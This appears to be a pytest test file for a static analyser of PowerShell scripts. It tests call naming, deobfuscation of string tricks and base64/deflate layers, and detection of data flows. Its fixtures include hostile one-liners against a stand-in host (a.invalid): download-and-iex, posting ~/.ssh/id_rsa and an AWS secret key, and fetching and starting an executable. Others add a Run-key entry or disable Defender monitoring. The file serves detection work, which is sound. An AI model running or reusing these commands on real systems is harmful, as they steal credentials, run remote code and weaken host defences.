"""What a PowerShell script calls, and what is known of its arguments."""

from __future__ import annotations

import base64

import pytest
from script_facts import argument, calls, facts, flows, uses

from pratique.languages.powershell.read import decoded

CALLS = {
    "iwr http://a.invalid": ["invoke-webrequest"],
    "I`E`X $x": ["invoke-expression"],
    "&('i'+'ex') $x": ["invoke-expression"],
    "& (gcm i*x) 'a'": ["invoke-expression"],
    "sal z iex; z 'a'": ["invoke-expression"],
    "(New-Object Net.WebClient).DownloadString('u')": ["net.webclient", "net.webclient().downloadstring"],
    "$w = [System.Net.WebClient]::new(); $w.DownloadFile('u', 'p')": ["net.webclient", "net.webclient().downloadfile"],
    "function g { param($p) iex $p }; g 'a'": [".g", "invoke-expression"],
    "if ($x) { gc a } else { gci b }": ["get-content", "get-childitem"],
    "try { iwr a } catch { rm b }": ["invoke-webrequest", "remove-item"],
    "$b = { gc a }; & $b": ["", "get-content"],
    "[Reflection.Assembly]::Load($b)": ["reflection.assembly.load"],
    "curl.exe -o x http://a.invalid": ["curl"],
    "gc a, b\niwr http://a.invalid": ["invoke-webrequest"],
}


@pytest.mark.parametrize("source", CALLS)
def test_commands_and_members_are_calls_by_their_full_names(source: str) -> None:
    assert set(CALLS[source]) <= set(calls("powershell", source))


CODE = [
    ("'a' + 'b'", "ab"),
    ("\"a$('b')c\"", "abc"),
    ("'{1}{0}' -f 'x','y'", "yx"),
    ("-join ('a','b')", "ab"),
    ("('a','b') -join '-'", "a-b"),
    ("'axb' -replace 'x','y'", ("ayb", ("computed",))),
    ("('a b' -split ' ')[1]", "b"),
    ("[char]105 + 'x'", "ix"),
    ("-join ([char[]](104,105))", "hi"),
    ("-join ((104,105) | % { [char]$_ })", "hi"),
    ("-join ((105,104) | % { [char]($_ -bxor 1) })", ("hi", ("xor",))),
    ("'dcba'[-1..-4] -join ''", "abcd"),
    ("'abcd'.Substring(1,2)", "bc"),
    ("'aXb'.Replace('X','-')", "a-b"),
    ("'A'.ToLower() * 3", "aaa"),
    ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))", ("hi", ("base64",))),
    ("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))", ("hi", ("base64", "utf-16"))),
    ("(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream((New-Object IO.MemoryStream(,"  # noqa: ISC004
     "[Convert]::FromBase64String('y8gEAA=='))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()",
     ("hi", ("base64", "zlib"))),
    ("@{ a = 'x' }.a", "x"),
    ("$(@('a','b'))[1]", "b"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "expected"), CODE)
def test_constants_fold(source: str, expected: object) -> None:
    assert [expected] == argument("powershell", f"$v = {source}\niex $v", "invoke-expression", "code")


def test_an_array_is_reversed_in_place() -> None:
    source = "$a = 'cba'.ToCharArray(); [array]::Reverse($a); iex (-join $a)"

    assert argument("powershell", source, "invoke-expression", "code") == [("abc", ("reverse",))]


ARGUMENTS = [
    ("iwr -Uri http://a.invalid -OutF $env:TEMP\\x.exe", "invoke-webrequest", "out", "~\\AppData\\Local\\Temp\\x.exe"),
    ("Start-Process powershell -Wind Hidden -ArgumentList '-enc AAAA'", "powershell", "code", "AAAA"),
    ("Start-Process calc -WindowStyle Hidden", "start-process", "windowstyle", "Hidden"),
    ("Set-ItemProperty -Path HKCU:\\x -Name n -Value v", "set-itemproperty", "path", "HKCU:\\x"),
    ("gc $HOME\\.ssh\\id_rsa", "get-content", "path", "~\\.ssh\\id_rsa"),
    ("$env:AWS_KEY | iex", "powershell.env", "0", "AWS_KEY"),
    ("cmd /c dir x", "cmd", "code", "dir x"),
]


@pytest.mark.parametrize(("source", "call", "key", "expected"), ARGUMENTS)
def test_arguments_are_known_by_their_part(source: str, call: str, key: str, expected: object) -> None:
    assert expected in argument("powershell", source, call, key)


FLOWS = [
    ("iex (New-Object Net.WebClient).DownloadString('http://a.invalid')", "network.http > code.eval"),
    ("(iwr http://a.invalid).Content | iex", "network.http > code.eval"),
    ("$x = irm http://a.invalid; & ([scriptblock]::Create($x))", "network.http > code.eval"),
    ("gc $HOME\\.ssh\\id_rsa | irm http://a.invalid -Method Post", "fs.read ssh-key > network.http"),
    ("irm http://a.invalid -Body $env:AWS_SECRET_ACCESS_KEY", "env.read env-secret > network.http"),
    ("iwr http://a.invalid -OutFile $env:TEMP\\x.exe; saps $env:TEMP\\x.exe", "network.http > process.spawn"),
    ("[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.invalid'))",
     "network.http > code.load-native"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "expected"), FLOWS)
def test_values_travel_through_variables_pipes_and_files(source: str, expected: str) -> None:
    found = flows("powershell", source)
    assert {expected} & found, found


USES = [
    (
        "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b",
        "registry.write",
    ),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", "host.configure"),
    ("Get-Clipboard", "input.clipboard"),
    ("Register-ScheduledTask -TaskName a -Action $b", "persist.schedule"),
    ("Start-Process a -Verb RunAs", "process.elevate"),
    ("Add-Type -TypeDefinition $c", "code.load-native"),
]


@pytest.mark.parametrize(("source", "expected"), USES)
def test_the_map_knows_what_cmdlets_can_do(source: str, expected: str) -> None:
    assert expected in {use.split()[0] for use in uses("powershell", source)}


def test_an_encoded_command_is_one_more_layer() -> None:
    packed = base64.b64encode("echo hi".encode("utf-16-le"))

    assert argument("powershell", packed.decode(), "powershell.encoded", "0") == [("echo hi", ("base64", "utf-16"))]
    assert decoded(base64.b64encode(b"echo hi there").decode()) is None
    assert not facts("powershell", packed).limits
